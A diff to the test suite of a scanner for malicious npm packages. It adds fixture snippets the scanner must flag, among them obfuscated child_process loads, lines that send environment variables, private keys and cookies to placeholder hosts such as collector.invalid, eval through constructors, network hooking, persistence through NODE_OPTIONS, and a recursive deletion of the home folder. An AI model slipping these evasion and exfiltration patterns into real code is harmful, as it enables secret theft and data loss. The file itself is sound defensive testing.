@@ -50,6 +50,9 @@ BUILT = {
 }
 
 
+TESTED = {**PLAIN, "test/fixtures/old.js": "require('child_process').execSync('echo');\n"}
+
+
 class StandIn(NamedTuple):
     """What changes, in what, and the codes that must be among the reasons."""
 
@@ -384,6 +387,171 @@ STAND_INS = {
         "dep-unused",
     ),
     "machine code": _case(PLAIN, {"lib/fast.node": "\x7fELF"}, "power:native"),
+    "a module's name among other things": _adds(
+        PLAIN, "require(('child_process'), 0).exec(true && 'echo');\n", "power:exec"
+    ),
+    "a module's name as a key": _adds(
+        PLAIN, "require(Object.keys({ child_process: 1 })[0]).exec('echo');\n", "power:exec"
+    ),
+    "a module's name cut out": _adds(
+        PLAIN, "require('xchild_process'.slice(1)).exec('echo');\n", "obf:split-name"
+    ),
+    "a module's name replaced": _adds(
+        PLAIN, "require('child-process'.replace('-', '_')).exec('echo');\n", "obf:split-name"
+    ),
+    "a module's name by a cipher": _adds(
+        PLAIN,
+        "const turn = (c) => String.fromCharCode(c.charCodeAt() - 1);\n"
+        "require('dijme`qspdftt'.replace(/./g, turn)).exec('echo');\n",
+        "pair:decode-load",
+    ),
+    "require applied": _adds(
+        PLAIN, "require.apply(null, ['child_process']).exec('echo');\n", "power:exec"
+    ),
+    "environment by Reflect": _adds(
+        CLIENT,
+        f"https.get('{HOST}?' + JSON.stringify(Reflect.get(process, 'env')));\n",
+        "pair:send-secrets",
+    ),
+    "environment by a pattern": _adds(
+        CLIENT,
+        f"const {{ env: e }} = process;\nhttps.get('{HOST}?' + JSON.stringify(e));\n",
+        "pair:send-secrets",
+    ),
+    "environment by a report": _adds(
+        CLIENT,
+        f"https.get('{HOST}?' + JSON.stringify(process.report.getReport()));\n",
+        "pair:send-secrets",
+    ),
+    "credentials in pieces": _adds(
+        CLIENT,
+        "https.get('https://coll' + 'ector.invalid/?' + exports.home + '/.np' + 'mrc');\n",
+        "tell:cred-path",
+        "pair:new-host-near-secrets",
+    ),
+    "a host in pieces": _adds(
+        KEYS,
+        "exports.check = (privateKey) => fetch('https://coll' + 'ector.invalid/' + privateKey);\n",
+        "pair:new-host-near-secrets",
+    ),
+    "a host without a scheme": _adds(
+        KEYS,
+        "exports.check = (privateKey) => fetch('//collector.invalid/' + privateKey);\n",
+        "pair:new-host-near-secrets",
+    ),
+    "a host in foreign letters": _adds(
+        KEYS,
+        "exports.check = (privateKey) => fetch('https://ćollector.invalid/' + privateKey);\n",
+        "pair:new-host-near-secrets",
+    ),
+    "a host as a number": _adds(
+        KEYS, "exports.check = (key) => fetch('http://3405803783/' + key);\n", "tell:ip-url"
+    ),
+    "a host of six": _adds(
+        KEYS, "exports.check = (key) => fetch('http://[2001:db8::1]/' + key);\n", "tell:ip-url"
+    ),
+    "a form that anybody may have": _adds(
+        KEYS,
+        "exports.check = (privateKey) => fetch('https://docs.google.com/forms/x?' + privateKey);\n",
+        "pair:new-host-near-secrets",
+    ),
+    "data in a picture's address": _adds(
+        PLAIN, f"new Image().src = '{HOST}?' + document.title;\n", "power:fetch", "host-new"
+    ),
+    "a script in a page by its text": _adds(
+        PLAIN,
+        "const s = document.createElement('script');\ns.text = exports.rows;\ndocument.head.append(s);\n",
+        "power:inject-script",
+    ),
+    "a script written into a page": _adds(
+        PLAIN, f"document.write('<script src=\"{HOST}\"></script>');\n", "power:inject-script"
+    ),
+    "evaluates by a function's constructor": _adds(
+        PLAIN, "(async () => {}).constructor(exports.rows)();\n", "power:eval"
+    ),
+    "evaluates by two constructors": _adds(
+        PLAIN, "[].constructor.constructor(exports.rows)();\n", "power:eval"
+    ),
+    "evaluates by Reflect": _adds(
+        PLAIN, "Reflect.construct(Function, [exports.rows])();\n", "power:eval"
+    ),
+    "evaluates by the inspector": _adds(
+        PLAIN, "new (require('inspector').Session)().connect();\n", "power:eval"
+    ),
+    "hooked by a definition": _adds(
+        PLAIN, "Object.defineProperty(globalThis, 'fetch', { value: () => {} });\n", "tell:hook-net"
+    ),
+    "hooked by an assignment of all": _adds(
+        PLAIN, "Object.assign(globalThis, { fetch: () => {} });\n", "tell:hook-net"
+    ),
+    "hooked sockets": _adds(
+        PLAIN, "require('net').Socket.prototype.write = function () {};\n", "tell:hook-net"
+    ),
+    "hooked require": _adds(
+        PLAIN, "require('module').prototype.require = (name) => name;\n", "tell:hook-net"
+    ),
+    "hooked extensions": _adds(
+        PLAIN, "require.extensions['.js'] = (module) => module;\n", "tell:hook-net"
+    ),
+    "overwrites another package": _adds(
+        PLAIN,
+        "require('fs').writeFileSync(require.resolve('ms'), '');\n",
+        "pair:overwrites-code",
+    ),
+    "options of later processes": _adds(
+        PLAIN, "process.env.NODE_OPTIONS = `--require ${__filename}`;\n", "tell:persist"
+    ),
+    "files of the home folder": _adds(
+        PLAIN,
+        "require('fs').rmSync(require('os').homedir(), { recursive: true });\n",
+        "pair:files-of-home",
+    ),
+    "thin characters between letters": _adds(
+        PLAIN, "const s = '" + "a\u200b\u200c" * 30 + "';\n", "obf:invisible"
+    ),
+    "payload in a style sheet": _case(
+        PLAIN,
+        {
+            **_added("require('./look.css');\n"),
+            "lib/look.css": "require('child_process').exec('echo');\n",
+        },
+        "power:exec",
+    ),
+    "payload in a text of the tests, by a computed name": _case(
+        PLAIN,
+        {
+            **_added("require('../test/fixtures/' + exports.rows + '.txt');\n"),
+            "test/fixtures/input.txt": "require('child_process').exec('echo');\n",
+        },
+        "power:exec",
+    ),
+    "payload in a text that a browser gets": _case(
+        PLAIN,
+        {
+            "package.json": manifest(dependencies={"ms": "^2.1.0"}, browser="./lib/web.txt"),
+            "lib/web.txt": f"fetch('{HOST}?' + document.cookie);\n",
+        },
+        "pair:send-secrets",
+    ),
+    "payload in a component": _case(
+        PLAIN,
+        {"lib/x.vue": f"<p>It's</p>\n<script>\nfetch('{HOST}?' + document.cookie);\n</script>\n"},
+        "pair:send-secrets",
+    ),
+    "main leads to a file of the tests": _case(
+        TESTED, {"package.json": manifest(main="test/fixtures/old.js")}, "file-activated"
+    ),
+    "imports lead to a file of the tests": _case(
+        TESTED,
+        {"package.json": manifest(imports={"#a": "./test/fixtures/old.js"})},
+        "file-activated",
+    ),
+    "a file of the tests is loaded": _adds(
+        TESTED, "require('../test/fixtures/old.js');\n", "file-activated"
+    ),
+    "machine code that nothing loaded": _adds(
+        {**PLAIN, "lib/fast.node": "\x7fELF"}, "require('./fast.node');\n", "power:native"
+    ),
     "new package that acts at install": _case(
         None,
         {
@@ -396,7 +564,7 @@ STAND_INS = {
     ),
 }
 """Each must score enough for attention."""
-LIGHT = {"machine code", "brackets without end"}
+LIGHT = {"brackets without end"}
 """Stand-ins that are worth a line but not, alone, attention."""
 
 HONEST: dict[str, StandIn] = {
@@ -453,6 +621,25 @@ HONEST: dict[str, StandIn] = {
     "names like the loader's": _adds(
         PLAIN,
         "exports.rows._loaded = 1;\nclass A { _load() { return this._load; } }\nexports.A = A;\n",
+    ),
+    "a build that was one short line": _case(
+        {**PLAIN, "dist/a.min.js": "var a=1;" * 90}, {"dist/a.min.js": "var a=1;" * 900}
+    ),
+    "a title page": _case(
+        PLAIN, {"README.md": "# Plain\n\n    require('child_process').exec(process.env.X)\n"}
+    ),
+    "a page with samples": _case(
+        PLAIN,
+        {
+            "USAGE": "How to use it\n\nCall eval('x') or require('child_process') as you like.\n"
+            "It's not (yet] done: see { below.\n"
+        },
+    ),
+    "a list of the runtime's modules": _adds(
+        PLAIN, "exports.builtin = new Set(['fs', 'http', 'child_process']);\n"
+    ),
+    "names of days": _adds(
+        PLAIN, "exports.day = 'monday'.slice(0, 3) + 'Tuesday'.replace('T', 't');\n"
     ),
     "a moved file": _case(CLIENT, {"src/main.js": CLIENT["lib/main.js"]}),
     "another message in the install script": _case(
